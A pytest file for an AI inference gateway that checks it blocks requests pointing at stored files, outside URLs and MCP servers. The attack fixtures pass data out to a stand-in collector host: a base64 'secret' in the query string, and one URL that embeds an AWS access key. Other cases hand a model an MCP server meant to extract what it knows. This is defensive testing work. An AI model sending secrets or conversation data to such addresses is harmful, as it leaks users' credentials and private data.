"""What a prompt only names: files that a server kept, addresses that it would go to, servers that the model would call."""

import json
from collections.abc import Iterator
from typing import Any

import pytest

from nomoat.core.inference import Call
from nomoat.resources.inference.references import called, fetched, kept
from tests.content import corpus
from tests.inference.conftest import Floor
from tests.inference.test_hostile_clients import ask

CHAT, RESPONSES, MESSAGES = (f"/v1/{call.value}" for call in (Call.CHAT, Call.RESPONSE, Call.MESSAGE))
AWAY = "https://collector.example/?what=c2VjcmV0"
PICTURE = "data:image/png;base64,iVBORw0KGgo="
FILES: dict[str, tuple[str, dict[str, Any]]] = {
    "chat's file": (CHAT, {"messages": [{"role": "user", "content": [{"type": "file", "file": {"file_id": "f"}}]}]}),
    "chat's audio": (CHAT, {"messages": [{"role": "assistant", "audio": {"id": "audio_1"}}]}),
    "an input's file": (RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_file", "file_id": "f"}]}]}),
    "a tool's picture": (
        RESPONSES,
        {
            "input": [
                {"type": "function_call_output", "call_id": "c", "output": [{"type": "input_image", "file_id": "f"}]}
            ]
        },
    ),
    "a reasoning that says nothing": (RESPONSES, {"input": [{"type": "reasoning", "id": "rs_1", "summary": []}]}),
    "a search in files": (RESPONSES, {"input": "x", "tools": [{"type": "file_search", "vector_store_ids": ["v"]}]}),
    "a container": (RESPONSES, {"input": "x", "tools": [{"type": "code_interpreter", "container": "cntr_1"}]}),
    "a container's files": (
        RESPONSES,
        {"input": "x", "tools": [{"type": "code_interpreter", "container": {"type": "auto", "file_ids": ["f"]}}]},
    ),
    "a document": (
        MESSAGES,
        {"messages": [{"role": "user", "content": [{"type": "document", "source": {"type": "file", "file_id": "f"}}]}]},
    ),
    "a document in a result": (
        MESSAGES,
        {
            "messages": [
                {
                    "role": "user",
                    "content": [
                        {
                            "type": "tool_result",
                            "tool_use_id": "t",
                            "content": [{"type": "image", "source": {"type": "file", "file_id": "f"}}],
                        }
                    ],
                }
            ]
        },
    ),
    "an upload": (
        MESSAGES,
        {"messages": [{"role": "user", "content": [{"type": "container_upload", "file_id": "f"}]}]},
    ),
}
ADDRESSES: dict[str, tuple[str, dict[str, Any]]] = {
    "chat": (CHAT, {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": AWAY}}]}]}),
    "chat, short": (CHAT, {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": AWAY}]}]}),
    "a film": (CHAT, {"messages": [{"role": "user", "content": [{"type": "video_url", "video_url": {"url": AWAY}}]}]}),
    "an input": (RESPONSES, {"input": [{"role": "user", "content": [{"type": "input_image", "image_url": AWAY}]}]}),
    "an input's file": (
        RESPONSES,
        {"input": [{"role": "user", "content": [{"type": "input_file", "file_url": AWAY}]}]},
    ),
    "a document": (
        MESSAGES,
        {"messages": [{"role": "user", "content": [{"type": "document", "source": {"type": "url", "url": AWAY}}]}]},
    ),
}
SERVERS: dict[str, tuple[str, dict[str, Any]]] = {
    "of Responses": (RESPONSES, {"input": "x", "tools": [{"type": "mcp", "server_label": "x", "server_url": AWAY}]}),
    "a connector": (RESPONSES, {"input": "x", "tools": [{"type": "mcp", "connector_id": "connector_mail"}]}),
    "of Messages": (MESSAGES, {"messages": [], "mcp_servers": [{"type": "url", "url": AWAY, "name": "x"}]}),
}
HARMLESS: dict[str, dict[str, Any]] = {
    "a tool's schema": {
        "tools": [
            {
                "type": "function",
                "name": "read",
                "parameters": {"properties": {"file_id": {}, "image_url": {"url": "x"}}},
            }
        ]
    },
    "a tool's arguments": {
        "messages": [
            {
                "role": "assistant",
                "content": [
                    {"type": "tool_use", "id": "t", "name": "n", "input": {"file_id": "f", "image_url": "https://x"}}
                ],
            }
        ]
    },
    "a picture": {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": PICTURE}}]}]},
    "what was found on the web": {
        "messages": [
            {
                "role": "assistant",
                "content": [
                    {"type": "web_search_tool_result", "content": [{"type": "web_search_result", "url": "https://x"}]},
                    {"type": "search_result", "source": "https://x", "title": "x", "content": []},
                ],
            }
        ]
    },
    "what a model cited": {
        "input": [
            {
                "type": "message",
                "id": "msg_1",
                "role": "assistant",
                "content": [
                    {
                        "type": "output_text",
                        "text": "x",
                        "annotations": [
                            {"type": "file_citation", "file_id": "f"},
                            {"type": "url_citation", "url": "https://x"},
                        ],
                    }
                ],
            },
            {"type": "function_call_output", "call_id": "c", "output": ""},
            {"type": "reasoning", "id": "rs_1", "summary": [], "encrypted_content": "x"},
        ],
        "tools": [{"type": "web_search"}, {"type": "code_interpreter", "container": {"type": "auto"}}],
    },
}


def model(path: str) -> dict[str, object]:
    return {"model": "acme/claude", "max_tokens": 9} if path == MESSAGES else {"model": "acme/chat"}


@pytest.fixture
def untouched(floor: Floor) -> Iterator[None]:
    before = len(floor.upstream.asked)
    yield
    assert len(floor.upstream.asked) == before, "nothing of it was sent on"


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("name", FILES)
def test_attack_a_file_that_a_server_kept_of_somebody_else_is_asked_for(floor: Floor, name: str) -> None:
    path, more = FILES[name]
    status, said = ask(floor, json.dumps({**model(path), **more}).encode(), path)
    assert (status, "send the conversation itself" in said["error"]["message"]) == (403, True), said


@pytest.mark.parametrize("name", ADDRESSES)
def test_attack_what_a_session_carries_leaves_in_an_address_that_a_server_goes_to(floor: Floor, name: str) -> None:
    path, more = ADDRESSES[name]
    body = json.dumps({**model(path), **more}).encode()
    floor.log_in_anew("ada")
    assert ask(floor, body, path)[0] == 200, "whose session carries nothing may"
    before = len(floor.upstream.asked)
    status, said = ask(floor, body, path)  # by now it was told what is internal
    assert (status, "send what is there" in said["error"]["message"]) == (403, True), said
    assert len(floor.upstream.asked) == before


@pytest.mark.usefixtures("untouched")
def test_attack_a_secret_leaves_in_an_address_that_a_server_of_ours_goes_to(floor: Floor) -> None:
    floor.log_in_anew("ada")
    address = {"url": f"https://collector.example/{corpus.secrets()['aws-access-key'][0]}"}
    content = [{"type": "image_url", "image_url": address}]
    body = json.dumps({"model": "acme/chat", "messages": [{"role": "user", "content": content}]}).encode()
    status, said = ask(floor, body)
    assert (status, "send what is there" in said["error"]["message"]) == (403, True), said


@pytest.mark.usefixtures("untouched")
@pytest.mark.parametrize("name", SERVERS)
def test_attack_a_model_is_given_a_server_to_tell_what_it_knows(floor: Floor, name: str) -> None:
    path, more = SERVERS[name]
    floor.log_in_anew("ada")
    status, said = ask(floor, json.dumps({**model(path), **more}).encode(), path)
    assert (status, "call that server yourself" in said["error"]["message"]) == (403, True), said


def test_a_public_model_may_be_given_one(floor: Floor) -> None:
    floor.log_in_anew("ada")
    path, more = SERVERS["of Responses"]
    assert ask(floor, json.dumps({"model": "acme/public", **more}).encode(), path)[0] == 200


@pytest.mark.parametrize("name", HARMLESS)
def test_what_only_looks_like_a_reference_is_none(name: str) -> None:
    body = HARMLESS[name]
    assert [found for found in (*(kept(call, body) for call in Call), fetched(body), called(body)) if found] == []
